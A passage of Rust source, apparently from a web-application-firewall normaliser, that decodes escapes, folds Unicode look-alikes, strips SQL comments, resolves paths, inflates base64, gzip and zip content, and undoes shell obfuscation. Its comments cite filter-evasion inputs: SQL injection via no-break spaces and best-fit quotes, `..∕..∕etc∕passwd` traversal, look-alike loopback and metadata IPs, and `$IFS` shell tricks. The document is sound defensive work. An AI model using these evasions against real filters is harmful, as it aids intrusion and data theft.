        if b != b'\\' {
            out.push(b);
            i += 1;
            continue;
        }
        let Some(&e) = input.get(i + 1) else {
            out.push(b);
            break;
        };
        let rest = input.get(i + 2..).unwrap_or_default();
        match e {
            b'x' | b'X' => {
                let (v, n) = hex_run(rest, 2);
                if n == 2 {
                    out.push(v as u8);
                    i += 4;
                } else {
                    out.push(e);
                    i += 2;
                }
            }
            b'u' | b'U' => {
                if rest.first() == Some(&b'{') {
                    // Any number of leading zeros (`\u{0000000061}` is `a`).
                    let digits = rest.get(1..).unwrap_or_default();
                    let zeros = digits.iter().take_while(|&&d| d == b'0').count();
                    let (v, n) = hex_run(digits.get(zeros..).unwrap_or_default(), 6);
                    let n = zeros + n;
                    if n > 0 && rest.get(1 + n) == Some(&b'}') {
                        push_char(&mut out, v);
                        i += 2 + n + 2;
                        continue;
                    }
                }
                let (v, n) = hex_run(rest, 4);
                if n == 4 {
                    push_char(&mut out, v);
                    i += 6;
                } else {
                    out.push(e);
                    i += 2;
                }
            }
            b'0'..=b'7' => {
                let mut v: u32 = u32::from(e - b'0');
                let mut n = 0;
                for &d in rest.iter().take(2) {
                    if (b'0'..=b'7').contains(&d) {
                        v = v * 8 + u32::from(d - b'0');
                        n += 1;
                    } else {
                        break;
                    }
                }
                out.push((v & 0xff) as u8);
                i += 2 + n;
            }
            b'n' => {
                out.push(b'\n');
                i += 2;
            }
            b'r' => {
                out.push(b'\r');
                i += 2;
            }
            b't' => {
                out.push(b'\t');
                i += 2;
            }
            b'b' => {
                out.push(0x08);
                i += 2;
            }
            b'f' => {
                out.push(0x0c);
                i += 2;
            }
            b'v' => {
                out.push(0x0b);
                i += 2;
            }
            _ => {
                out.push(e);
                i += 2;
            }
        }
    }
    Cow::Owned(out)
}

/// Decodes CSS escapes.
pub fn css_decode(input: &[u8]) -> Cow<'_, [u8]> {
    if !input.contains(&b'\\') {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b != b'\\' {
            out.push(b);
            i += 1;
            continue;
        }
        let rest = input.get(i + 1..).unwrap_or_default();
        let (v, n) = hex_run(rest, 6);
        if n > 0 {
            push_char(&mut out, v);
            i += 1 + n;
            if input.get(i).is_some_and(|&c| is_space(c)) {
                i += 1;
            }
        } else if let Some(&c) = rest.first() {
            if c != b'\n' {
                out.push(c);
            }
            i += 2;
        } else {
            i += 1;
        }
    }
    Cow::Owned(out)
}

// === utf-8 ===

/// Decodes overlong UTF-8 encodings of ASCII, maps full-width and other compatibility forms
/// to ASCII, and no-break spaces (UTF-8's, and Latin-1's lone 0xA0) to spaces.
pub fn utf8_normalize(input: &[u8]) -> Cow<'_, [u8]> {
    if input.is_ascii() {
        return Cow::Borrowed(input);
    }
    // Nothing is copied until the first sequence that changes.
    let mut out: Option<Vec<u8>> = None;
    let mut i = 0;
    while i < input.len() {
        match utf8_step(input, i) {
            Utf8Step::Fix(ascii, used) => {
                out.get_or_insert_with(|| {
                    let mut o = Vec::with_capacity(input.len());
                    o.extend_from_slice(input.get(..i).unwrap_or_default());
                    o
                })
                .push(ascii);
                i += used;
            }
            Utf8Step::Keep(used) => {
                if let Some(o) = out.as_mut() {
                    o.extend_from_slice(input.get(i..i + used).unwrap_or_default());
                }
                i += used;
            }
        }
    }
    out.map_or(Cow::Borrowed(input), Cow::Owned)
}

/// Whether a 0xA0 byte of the value stands outside every UTF-8 character: what
/// [`utf8_normalize`] makes a space when nothing else in the value is one it rewrites. Each
/// 0xA0 is looked at with the three bytes before it: a lead byte (C2–F4, never a continuation)
/// whose whole character holds it is the character [`utf8_normalize`]'s walk keeps whole. (The
/// feature pass's check: it costs per 0xA0, not per byte, on text where `à` and `Р` hold one.)
fn has_lone_a0(input: &[u8]) -> bool {
    memchr::memchr_iter(0xa0, input).any(|p| {
        !(1..=3).any(|k| {
            p.checked_sub(k)
                .and_then(|lead| utf8_char_len(input, lead))
                .is_some_and(|n| n > k)
        })
    })
}

/// Whether the value holds a prime or a reversed prime (`′` `″` `‵` `‶`, E2 80 B2/B3/B5/B6),
/// which [`utf8_normalize`] makes a quote.
fn has_prime(input: &[u8]) -> bool {
    memchr::memchr_iter(0xe2, input).any(|p| {
        input.get(p + 1) == Some(&0x80)
            && matches!(input.get(p + 2), Some(0xb2 | 0xb3 | 0xb5 | 0xb6))
    })
}

/// The length of the whole UTF-8 character of two to four bytes that starts at `input[i]`, if
/// one does.
fn utf8_char_len(input: &[u8], i: usize) -> Option<usize> {
    let n = match input.get(i)? {
        0xc2..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf4 => 4,
        _ => return None,
    };
    let seq = input.get(i..i + n)?;
    std::str::from_utf8(seq).is_ok().then_some(n)
}

/// What [`utf8_normalize`] does at `input[i]`: write one ASCII byte for the `used` bytes of a
/// sequence it rewrites, or keep `used` bytes: a whole UTF-8 character, or one byte that is
/// none.
enum Utf8Step {
    Fix(u8, usize),
    Keep(usize),
}

fn utf8_step(input: &[u8], i: usize) -> Utf8Step {
    if let Some((ascii, used)) = utf8_fix(input, i) {
        return Utf8Step::Fix(ascii, used);
    }
    // A 0xA0 that no UTF-8 character holds is Latin-1's (and Windows-1252's) no-break space,
    // which MySQL and others read as a space: `1\xa0UNION\xa0SELECT`.
    if input.get(i) == Some(&0xa0) {
        return Utf8Step::Fix(b' ', 1);
    }
    Utf8Step::Keep(utf8_char_len(input, i).unwrap_or(1))
}

/// The ASCII byte that the sequence at `input[i..]` stands for, and its length, when it is
/// one `utf8_normalize` rewrites.
fn utf8_fix(input: &[u8], i: usize) -> Option<(u8, usize)> {
    let b = *input.get(i)?;
    if b < 0xc0 {
        return None;
    }
    let b1 = input.get(i + 1).copied().unwrap_or(0);
    let b2 = input.get(i + 2).copied().unwrap_or(0);
    let b3 = input.get(i + 3).copied().unwrap_or(0);
    let cont = |x: u8| x & 0xc0 == 0x80;
    // Overlong 2-byte form of ASCII: C0 80 – C1 BF.
    if (b == 0xc0 || b == 0xc1) && cont(b1) {
        return Some((((b & 0x01) << 6) | (b1 & 0x3f), 2));
    }
    // Overlong 3-byte form of ASCII: E0 80 80 – E0 81 BF.
    if b == 0xe0 && (b1 == 0x80 || b1 == 0x81) && cont(b2) {
        return Some((((b1 & 0x01) << 6) | (b2 & 0x3f), 3));
    }
    // Overlong 4-byte form of ASCII: F0 80 80 80 – F0 80 81 BF.
    if b == 0xf0 && b1 == 0x80 && (b2 == 0x80 || b2 == 0x81) && cont(b3) {
        return Some((((b2 & 0x01) << 6) | (b3 & 0x3f), 4));
    }
    // Full-width ASCII U+FF01–FF5E: EF BC 81 – EF BD 9E.
    if b == 0xef && (b1 == 0xbc || b1 == 0xbd) && cont(b2) {
        let cp = 0xf000 | (u32::from(b1 & 0x3f) << 6) | u32::from(b2 & 0x3f);
        if (0xff01..=0xff5e).contains(&cp) {
            return Some(((cp - 0xff01 + 0x21) as u8, 3));
        }
    }
    // Quotes to a database that converts text to a code page with Windows' best-fit tables
    // or SQL Server's varchar conversion ("SQL smuggling", WorstFit): modifier letters `ʹ`
    // U+02B9, `ʺ` U+02BA, `ʼ` U+02BC, `ˈ` U+02C8, and primes `′` U+2032, `″` U+2033, `‵`
    // U+2035, `‶` U+2036, so `ʼ OR 1=1--` is read as the back end reads it. Curly quotes
    // (`’`, in every Windows code page as themselves) and accents are left alone.
    if b == 0xca && matches!(b1, 0xb9 | 0xbc) || b == 0xcb && b1 == 0x88 {
        return Some((b'\'', 2));
    }
    if b == 0xca && b1 == 0xba {
        return Some((b'"', 2));
    }
    if b == 0xe2 && b1 == 0x80 && matches!(b2, 0xb2 | 0xb3 | 0xb5 | 0xb6) {
        return Some((
            if b2 == 0xb2 || b2 == 0xb5 {
                b'\''
            } else {
                b'"'
            },
            3,
        ));
    }
    // Small full stop U+FE52 and small reverse solidus U+FE68 (NFKC: `.` and `\\`).
    if b == 0xef && b1 == 0xb9 && (b2 == 0x92 || b2 == 0xa8) {
        return Some((if b2 == 0x92 { b'.' } else { b'\\' }, 3));
    }
    // Ideographic space U+3000 (E3 80 80) and no-break space U+00A0 (C2 A0).
    if b == 0xe3 && b1 == 0x80 && b2 == 0x80 {
        return Some((b' ', 3));
    }
    // Ideographic and half-width full stops U+3002, U+FF61: IDNA maps both to `.` in host
    // names (`169。254。169。254`).
    if (b == 0xe3 && b1 == 0x80 && b2 == 0x82) || (b == 0xef && b1 == 0xbd && b2 == 0xa1) {
        return Some((b'.', 3));
    }
    // Letters and digits that Unicode compatibility normalisation (NFKC, and IDNA for host
    // names) folds to ASCII: URL parsers read `http://①②⑦.⓪.⓪.①` and `ⓛⓞⓒⓐⓛⓗⓞⓢⓣ` as
    // loopback, and back ends that normalise input see the keyword the filter did not.
    if b == 0xe2 && cont(b2) {
        let ascii = match (b1, b2) {
            // ①–⑨ U+2460–2468.
            (0x91, 0xa0..=0xa8) => b'1' + (b2 - 0xa0),
            // Ⓐ–Ⓩ U+24B6–24CF.
            (0x92, 0xb6..=0xbf) => b'A' + (b2 - 0xb6),
            (0x93, 0x80..=0x8f) => b'K' + (b2 - 0x80),
            // ⓐ–ⓩ U+24D0–24E9, ⓪ U+24EA, ⓵–⓽ U+24F5–24FD, ⓿ U+24FF.
            (0x93, 0x90..=0xa9) => b'a' + (b2 - 0x90),
            (0x93, 0xaa | 0xbf) => b'0',
            (0x93, 0xb5..=0xbd) => b'1' + (b2 - 0xb5),
            // Superscript ⁰ and ⁴–⁹ U+2070, U+2074–2079; subscript ₀–₉ U+2080–2089.
            (0x81, 0xb0) => b'0',
            (0x81, 0xb4..=0xb9) => b'4' + (b2 - 0xb4),
            (0x82, 0x80..=0x89) => b'0' + (b2 - 0x80),
            // Slashes that Windows' best-fit mapping turns into path syntax (`∕` U+2215, `⁄`
            // U+2044, `⧸` U+29F8; `∖` U+2216, `⧵` U+29F5): `..∕..∕etc∕passwd` opens a file on
            // a server that converts names to a code page.
            (0x88, 0x95) | (0x81, 0x84) | (0xa7, 0xb8) => b'/',
            (0x88, 0x96) | (0xa7, 0xb5) => b'\\',
            _ => return None,
        };
        return Some((ascii, 3));
    }
    // Mathematical alphanumeric symbols (𝐀, 𝒂, 𝟏): U+1D400–1D6A3 are A–Z a–z in 13 styles,
    // U+1D7CE–1D7FF 0–9 in 5.
    if b == 0xf0 && b1 == 0x9d && cont(b2) && cont(b3) {
        let cp = 0x1d000 | (u32::from(b2 & 0x3f) << 6) | u32::from(b3 & 0x3f);
        let ascii = match cp {
            0x1d400..=0x1d6a3 => {
                let i = ((cp - 0x1d400) % 52) as u8;
                if i < 26 {
                    b'A' + i
                } else {
                    b'a' + (i - 26)
                }
            }
            0x1d7ce..=0x1d7ff => b'0' + ((cp - 0x1d7ce) % 10) as u8,
            _ => return None,
        };
        return Some((ascii, 4));
    }
    if b == 0xc2 && b1 == 0xa0 {
        return Some((b' ', 2));
    }
    None
}

// === binary content ===

/// The shortest run of text between binary bytes that [`printable_text`] keeps.
pub const MIN_TEXT_RUN: usize = 12;

/// What [`printable_text`] puts between runs: the ASCII record separator, which no
/// transformation removes and no `\s` or `\w` matches, so a pattern does not join the end
/// of one run to the start of the next.
pub const TEXT_RUN_SEPARATOR: u8 = 0x1e;

/// The text of binary content: its runs of text (printable ASCII, whitespace, valid UTF-8)
/// of at least [`MIN_TEXT_RUN`] bytes, one per line, like `strings(1)`. NUL bytes are skipped
/// without ending a run, so UTF-16 text reads as its characters; any other control byte or
/// invalid UTF-8 ends one. Content without such bytes is its own text: `Borrowed`.
///
/// Compressed and encoded data (images, archives, fonts) is mostly short chance runs of
/// punctuation and letters; text patterns run over it raise false alarms in proportion to
/// its size (`$x(` turns up about every 300 KB). Code hidden in a file (`<?php … ?>` in an
/// image comment, a script in a PDF, class names in a Java serialization stream) is text,
/// and stays.
pub fn printable_text(input: &[u8]) -> Cow<'_, [u8]> {
    if !has_binary_bytes(input) {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len() / 8);
    let mut start = 0;
    let mut len = 0;
    let end_run = |out: &mut Vec<u8>, start: &mut usize, len: &mut usize| {
        if *len < MIN_TEXT_RUN {
            out.truncate(*start);
        } else {
            out.push(TEXT_RUN_SEPARATOR);
        }
        *start = out.len();
        *len = 0;
    };
    for chunk in input.utf8_chunks() {
        for &b in chunk.valid().as_bytes() {
            if is_text(b) || b >= 0x80 {
                out.push(b);
                len += 1;
            } else if b != 0 {
                end_run(&mut out, &mut start, &mut len);
            }
        }
        if !chunk.invalid().is_empty() {
            end_run(&mut out, &mut start, &mut len);
        }
    }
    end_run(&mut out, &mut start, &mut len);
    if out.last() == Some(&TEXT_RUN_SEPARATOR) {
        out.pop();
    }
    Cow::Owned(out)
}

/// Printable ASCII and whitespace.
fn is_text(b: u8) -> bool {
    matches!(b, b' '..=b'~' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
}

/// Whether `input` holds bytes text does not: a control byte other than whitespace (NUL
/// included), DEL, or invalid UTF-8.
pub fn has_binary_bytes(input: &[u8]) -> bool {
    !(input.iter().all(|&b| is_text(b) || b >= 0x80) && std::str::from_utf8(input).is_ok())
}

// === simple byte maps ===

/// Removes NUL bytes.
pub fn remove_nulls(input: &[u8]) -> Cow<'_, [u8]> {
    if !input.contains(&0) {
        return Cow::Borrowed(input);
    }
    Cow::Owned(input.iter().copied().filter(|&b| b != 0).collect())
}

/// ASCII lowercase.
pub fn lowercase(input: &[u8]) -> Cow<'_, [u8]> {
    if !input.iter().any(u8::is_ascii_uppercase) {
        return Cow::Borrowed(input);
    }
    Cow::Owned(input.to_ascii_lowercase())
}

/// Runs of whitespace and NUL become one space.
pub fn compress_whitespace(input: &[u8]) -> Cow<'_, [u8]> {
    let ws = |b: u8| is_space(b) || b == 0;
    let mut prev_ws = false;
    let needs = input.iter().any(|&b| {
        let w = ws(b);
        let hit = w && (b != b' ' || prev_ws);
        prev_ws = w;
        hit
    });
    if !needs {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut in_ws = false;
    for &b in input {
        if ws(b) {
            if !in_ws {
                out.push(b' ');
            }
            in_ws = true;
        } else {
            out.push(b);
            in_ws = false;
        }
    }
    Cow::Owned(out)
}

/// Removes all whitespace.
pub fn remove_whitespace(input: &[u8]) -> Cow<'_, [u8]> {
    if !input.iter().any(|&b| is_space(b) || b == 0) {
        return Cow::Borrowed(input);
    }
    Cow::Owned(
        input
            .iter()
            .copied()
            .filter(|&b| !is_space(b) && b != 0)
            .collect(),
    )
}

/// Leading and trailing whitespace removed.
pub fn trim(input: &[u8]) -> Cow<'_, [u8]> {
    let start = input
        .iter()
        .position(|&b| !is_space(b))
        .unwrap_or(input.len());
    let end = input
        .iter()
        .rposition(|&b| !is_space(b))
        .map_or(start, |p| p + 1);
    if start == 0 && end == input.len() {
        return Cow::Borrowed(input);
    }
    // Owned when changed: every transformation returns `Borrowed` only for "unchanged",
    // which the evaluator relies on to share forms.
    Cow::Owned(input.get(start..end).unwrap_or_default().to_vec())
}

// === comments ===

/// Replaces SQL / C comments with a space.
pub fn replace_comments(input: &[u8]) -> Cow<'_, [u8]> {
    let needs = memchr::memchr3_iter(b'/', b'-', b'#', input).any(|p| match input.get(p) {
        Some(b'#') => true,
        Some(b'/') => input.get(p + 1) == Some(&b'*'),
        _ => input.get(p + 1) == Some(&b'-'),
    });
    if !needs {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        let next = input.get(i + 1).copied();
        if b == b'/' && next == Some(b'*') {
            // MySQL executes the body of `/*! … */` and `/*!50000 … */`, MariaDB that of
            // `/*M!100000 … */` too: keep it.
            let mariadb = matches!(input.get(i + 2), Some(b'M' | b'm'));
            let bang = if mariadb { i + 3 } else { i + 2 };
            if input.get(bang) == Some(&b'!') {
                let mut j = bang + 1;
                while input.get(j).is_some_and(u8::is_ascii_digit) {
                    j += 1;
                }
                out.push(b' ');
                i = j;
                continue;
            }
            let body = input.get(i + 2..).unwrap_or_default();
            match memchr::memmem::find(body, b"*/") {
                Some(end) => i += 2 + end + 2,
                None => i = input.len(),
            }
            out.push(b' ');
        } else if b == b'*' && next == Some(b'/') {
            out.push(b' ');
            i += 2;
        } else if (b == b'-' && next == Some(b'-')) || b == b'#' {
            let body = input.get(i..).unwrap_or_default();
            match memchr::memchr(b'\n', body) {
                Some(end) => i += end,
                None => i = input.len(),
            }
            out.push(b' ');
        } else {
            out.push(b);
            i += 1;
        }
    }
    Cow::Owned(out)
}

/// Removes the comment markers `/*`, `*/`, `--`, `#`, keeping what they enclose.
pub fn remove_comment_chars(input: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memmem::find(input, b"/*").is_none()
        && memchr::memmem::find(input, b"*/").is_none()
        && memchr::memmem::find(input, b"--").is_none()
        && !input.contains(&b'#')
    {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        let next = input.get(i + 1).copied();
        if (b == b'/' && next == Some(b'*'))
            || (b == b'*' && next == Some(b'/'))
            || (b == b'-' && next == Some(b'-'))
        {
            i += 2;
        } else if b == b'#' {
            i += 1;
        } else {
            out.push(b);
            i += 1;
        }
    }
    Cow::Owned(out)
}

// === path ===

/// Normalises a path: `\` → `/`, repeated `/` collapsed, `.` segments dropped, `..`
/// resolved against the previous segment (never above the start).
pub fn normalize_path(input: &[u8]) -> Cow<'_, [u8]> {
    let suspicious = input.contains(&b'\\')
        || memchr::memmem::find(input, b"//").is_some()
        || memchr::memmem::find(input, b"/.").is_some()
        || input.starts_with(b".");
    if !suspicious {
        return Cow::Borrowed(input);
    }
    let unified: Vec<u8> = input
        .iter()
        .map(|&b| if b == b'\\' { b'/' } else { b })
        .collect();
    let absolute = unified.first() == Some(&b'/');
    let trailing = unified.last() == Some(&b'/');
    let mut segs: Vec<&[u8]> = Vec::new();
    for seg in unified.split(|&b| b == b'/') {
        match seg {
            b"" | b"." => {}
            b".." => {
                if segs.last().is_some_and(|s| *s != b"..") {
                    segs.pop();
                } else if !absolute {
                    segs.push(seg);
                }
            }
            _ => segs.push(seg),
        }
    }
    let mut out = Vec::with_capacity(unified.len());
    if absolute {
        out.push(b'/');
    }
    for (n, s) in segs.iter().enumerate() {
        if n > 0 {
            out.push(b'/');
        }
        out.extend_from_slice(s);
    }
    if trailing && !segs.is_empty() {
        out.push(b'/');
    }
    Cow::Owned(out)
}

// === base64 ===

const B64_CONFIG: base64::engine::GeneralPurposeConfig =
    base64::engine::GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
static B64_STD: base64::engine::GeneralPurpose =
    base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, B64_CONFIG);
static B64_URL: base64::engine::GeneralPurpose =
    base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, B64_CONFIG);

/// Decodes one base64 text (standard or URL-safe alphabet, padding optional) whole.
pub(crate) fn decode_base64(text: &[u8]) -> Option<Vec<u8>> {
    let engine = if text.iter().any(|&b| b == b'-' || b == b'_') {
        &B64_URL
    } else {
        &B64_STD
    };
    engine.decode(text).ok()
}

/// Decodes base64 runs of 16 or more characters; returns the value itself when there are
/// none (so that a rule asking for this form still sees plain text).
pub fn base64_decode(input: &[u8]) -> Cow<'_, [u8]> {
    const MIN_RUN: usize = 16;
    let is_b64 = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
    let mut out: Vec<u8> = Vec::new();
    let mut i = 0;
    while i < input.len() {
        let rest = input.get(i..).unwrap_or_default();
        let run = rest.iter().take_while(|&&b| is_b64(b)).count();
        if run >= MIN_RUN {
            let pad = rest
                .get(run..)
                .unwrap_or_default()
                .iter()
                .take(2)
                .take_while(|&&b| b == b'=')
                .count();
            let chunk = rest.get(..run).unwrap_or_default();
            // A remainder of one character can never be base64; drop it.
            let usable = if chunk.len() % 4 == 1 {
                chunk.len() - 1
            } else {
                chunk.len()
            };
            let body = chunk.get(..usable).unwrap_or_default();
            if let Some(decoded) = decode_base64(body) {
                if !out.is_empty() {
                    out.push(b' ');
                }
                if !gunzip_into(&decoded, &mut out) {
                    out.extend_from_slice(&decoded);
                }
            }
            i += run + pad;
        } else {
            i += run.max(1);
        }
    }
    if out.is_empty() {
        Cow::Borrowed(input)
    } else {
        Cow::Owned(out)
    }
}

/// Most bytes [`base64_decode`] inflates from one gzip stream.
pub const GUNZIP_MAX: usize = 64 << 10;
/// ... and at most this many times the stream's own length: inflated bytes are judged by
/// every rule of the base64 group, so a request of small bombs must not cost much more than
/// its own size (serialized objects compress 2–5 times; their class names come first).
pub const GUNZIP_RATIO: usize = 8;

/// Appends at most `limit` bytes read from a decompressor to `out`, stopping at its end or
/// at the first error (a truncated or corrupt stream gives what came before the damage).
fn inflate_into(decoder: impl std::io::Read, limit: usize, out: &mut Vec<u8>) {
    use std::io::Read;
    let mut inflate = decoder.take(limit as u64);
    let mut buf = [0u8; 8192];
    loop {
        match inflate.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(buf.get(..n).unwrap_or_default()),
        }
    }
}

/// If `data` is a gzip stream (`1F 8B 08`: Java objects and JSF view state travel as
/// `H4sI…`, gzip in base64), appends what it inflates to, at most [`GUNZIP_MAX`] bytes and
/// [`GUNZIP_RATIO`] times its length (a bomb stops there; a truncated or corrupt stream gives
/// what inflated before the damage), and returns true. Otherwise appends nothing and returns
/// false.
fn gunzip_into(data: &[u8], out: &mut Vec<u8>) -> bool {
    if !data.starts_with(&[0x1f, 0x8b, 0x08]) {
        return false;
    }
    match inflate_small(data, GUNZIP_MAX) {
        Some(inflated) => out.extend_from_slice(&inflated),
        // Nothing inflated: the compressed bytes are the form, as for any other base64.
        None => out.extend_from_slice(data),
    }
    true
}

/// `data` inflated if it is a gzip stream or a zlib one (`78 01`, `78 5E`, `78 9C`, `78 DA`:
/// what `zlib.compress` and `gzcompress` write before base64 in share links and state
/// parameters), at most `limit` bytes and [`GUNZIP_RATIO`] times its own length; `None` when
/// it is neither or nothing inflated.
pub(crate) fn inflate_small(data: &[u8], limit: usize) -> Option<Vec<u8>> {
    let limit = limit.min(data.len().saturating_mul(GUNZIP_RATIO));
    let mut out = Vec::new();
    match data {
        [0x1f, 0x8b, 0x08, ..] => inflate_into(flate2::read::GzDecoder::new(data), limit, &mut out),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
            inflate_into(flate2::read::ZlibDecoder::new(data), limit, &mut out);
        }
        _ => return None,
    }
    (!out.is_empty()).then_some(out)
}

// === zip archives ===

/// Most bytes [`zip_documents`] inflates from one archive, all its members together.
pub const ZIP_TEXT_MAX: usize = 256 << 10;
/// ... from one member.
const ZIP_MEMBER_MAX: usize = 64 << 10;
/// Most members [`zip_documents`] looks at.
const ZIP_MEMBERS_MAX: usize = 256;

/// The XML documents inside a zip archive (`PK\x03\x04`): the parts of an Office Open XML
/// (`.docx`, `.xlsx`, `.pptx`) or OpenDocument file, an EPUB's or a JAR's descriptors. Each
/// member whose name ends in `.xml`, `.rels`, `.svg`, `.xsl`, `.xslt`, `.dtd`, `.opf` or
/// `.xhtml`, stored or deflated, is inflated (at most [`ZIP_MEMBER_MAX`] bytes each,
/// [`ZIP_TEXT_MAX`] in all, and [`GUNZIP_RATIO`] times its compressed size: a bomb stops
/// there) and its text appended, one member after another, each after a
/// [`TEXT_RUN_SEPARATOR`]. A converter that opens the file parses these documents, DOCTYPE
/// and all: an external entity in `word/document.xml` is an XXE as much as one in a posted
/// XML body. Members are found by their local headers, in order; a damaged archive gives
/// what came before the damage. `None` when `data` is no zip archive or holds no such member.
pub fn zip_documents(data: &[u8]) -> Option<Vec<u8>> {
    const LOCAL: &[u8] = b"PK\x03\x04";
    if !data.starts_with(LOCAL) {
        return None;
    }
    let u16_at = |at: usize| -> Option<usize> {
        let b = data.get(at..at + 2)?;
        Some(usize::from(u16::from_le_bytes([*b.first()?, *b.get(1)?])))
    };
    let u32_at = |at: usize| -> Option<usize> {
        let b = data.get(at..at + 4)?;
        let v = u32::from_le_bytes([*b.first()?, *b.get(1)?, *b.get(2)?, *b.get(3)?]);
        usize::try_from(v).ok()
    };
    let mut out = Vec::new();
    let mut at = 0;
    for _ in 0..ZIP_MEMBERS_MAX {
        if out.len() >= ZIP_TEXT_MAX {
            break;
        }
        let (Some(method), Some(size), Some(name_len), Some(extra_len)) = (
            u16_at(at + 8),
            u32_at(at + 18),
            u16_at(at + 26),
            u16_at(at + 28),
        ) else {
            break;
        };
        let name = data.get(at + 30..at + 30 + name_len).unwrap_or_default();
        let start = at + 30 + name_len + extra_len;
        // Sizes may be zero here and follow the data (general-purpose flag bit 3): the
        // next member is found by its signature instead.
        let rest = data.get(start..).unwrap_or_default();
        let member = if size > 0 {
            rest.get(..size).unwrap_or(rest)
        } else if method == 0 {
            // Stored, its size unknown: up to the data descriptor or the next header.
            let end = [b"PK\x07\x08", LOCAL, b"PK\x01\x02"]
                .iter()
                .filter_map(|sig| memchr::memmem::find(rest, sig))
                .min()
                .unwrap_or(rest.len());
            rest.get(..end).unwrap_or(rest)
        } else {
            rest
        };
        let lower = name.to_ascii_lowercase();
        let wanted = [
            ".xml", ".rels", ".svg", ".xsl", ".xslt", ".dtd", ".opf", ".xhtml",
        ]
        .iter()
        .any(|ext| lower.ends_with(ext.as_bytes()));
        if wanted {
            let room = ZIP_TEXT_MAX.saturating_sub(out.len()).min(ZIP_MEMBER_MAX);
            let limit = room.min(member.len().saturating_mul(GUNZIP_RATIO).max(1 << 10));
            out.push(TEXT_RUN_SEPARATOR);
            match method {
                0 => out.extend_from_slice(member.get(..limit).unwrap_or(member)),
                8 => inflate_into(flate2::read::DeflateDecoder::new(member), limit, &mut out),
                _ => {}
            }
        }
        // (Past this header's signature at least, so a damaged header cannot loop.)
        let skip = (if size > 0 { start + size } else { start }).max(at + 4);
        match data
            .get(skip..)
            .and_then(|r| memchr::memmem::find(r, LOCAL))
        {
            Some(next) => at = skip + next,
            None => break,
        }
    }
    (!out.is_empty()).then_some(out)
}

/// `text` (what [`printable_text`] kept of a file) followed by the XML documents inside
/// `file` when it is a zip archive ([`zip_documents`]).
pub fn with_zip_documents<'a>(text: Cow<'a, [u8]>, file: &[u8]) -> Cow<'a, [u8]> {
    match zip_documents(file) {
        None => text,
        Some(docs) => {
            let mut all = text.into_owned();
            all.extend_from_slice(&printable_text(&docs));
            Cow::Owned(all)
        }
    }
}

// === shell ===

/// Shell command-line normalisation (evasions like `c\at`, `"c"at`, `c^at`, `{cat,/etc}`).
/// A comma separates words only inside braces, as in the shell's brace expansion: outside
/// them `id,name,email` is one word (a field list, not the command `id`). `$@` and `$*`
/// (the positional parameters, empty in a `sh -c` string) are dropped: `who$@ami` is
/// `whoami`. `${IFS}` and `$IFS` (the field separator: a space) are a space, and a `$9` or
/// other positional parameter glued after `$IFS` is dropped with it (`cat$IFS$9/etc`). Case is
/// left alone: rules with `cmdline` match without case.
pub fn cmdline(input: &[u8]) -> Cow<'_, [u8]> {
    match ifs_as_spaces(input) {
        Some(spaced) => Cow::Owned(unshell(&spaced).into_owned()),
        None => unshell(input),
    }
}

/// [`cmdline`] once `$IFS` is a space.
fn unshell(input: &[u8]) -> Cow<'_, [u8]> {
    let special = |b: u8| {
        matches!(
            b,
            b'\\' | b'"' | b'\'' | b'^' | b';' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c
        )
    };
    // A comma changes only inside braces: `id,name,email` alone is left borrowed.
    let needs = input.iter().any(|&b| special(b))
        || (input.contains(&b'{') && input.contains(&b','))
        || input
            .windows(2)
            .any(|w| matches!(w, [b' ', b' ' | b'/' | b'('] | [b'$', b'@' | b'*']));
    if !needs {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut in_ws = false;
    let mut braces = 0usize;
    let mut bytes = input.iter().copied().peekable();
    while let Some(b) = bytes.next() {
        match b {
            b'$' if matches!(bytes.peek(), Some(b'@' | b'*')) => {
                bytes.next();
            }
            // A line break after a backslash (sh) or a caret (cmd.exe) continues the line:
            // `ca\<LF>t` is `cat`.
            b'\\' | b'^' => {
                if b == b'^' && bytes.peek() == Some(&b'\r') {
                    bytes.next();
                }
                if bytes.peek() == Some(&b'\n') {
                    bytes.next();
                }
            }
            b'"' | b'\'' => {}
            b',' if braces == 0 => {
                out.push(b);
                in_ws = false;
            }
            b'{' => {
                braces = braces.saturating_add(1);
                out.push(b);
                in_ws = false;
            }
            b'}' => {
                braces = braces.saturating_sub(1);
                out.push(b);
                in_ws = false;
            }
            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | b',' | b';' => {
                if !in_ws {
                    out.push(b' ');
                }
                in_ws = true;
            }
            b'/' | b'(' => {
                if in_ws {
                    out.pop();
                }
                out.push(b);
                in_ws = false;
            }
            _ => {
                out.push(b);
                in_ws = false;
            }
        }
    }
    Cow::Owned(out)
}

/// `input` with each `${IFS}` or `$IFS` (and a positional parameter glued after it, `$9`)
/// written as one space, or `None` if it has none.
fn ifs_as_spaces(input: &[u8]) -> Option<Vec<u8>> {
    // (No `$IFS` starts before the first `IFS` less two bytes: `${`.)
    let mut i = memchr::memmem::find(input, b"IFS")?.saturating_sub(2);
    let mut out = Vec::with_capacity(input.len());
    out.extend_from_slice(input.get(..i).unwrap_or_default());
    let mut changed = false;
    while let Some(&b) = input.get(i) {
        let rest = input.get(i..).unwrap_or_default();
        let n = if rest.starts_with(b"${IFS}") {
            6
        } else if rest.starts_with(b"$IFS")
            && !rest
                .get(4)
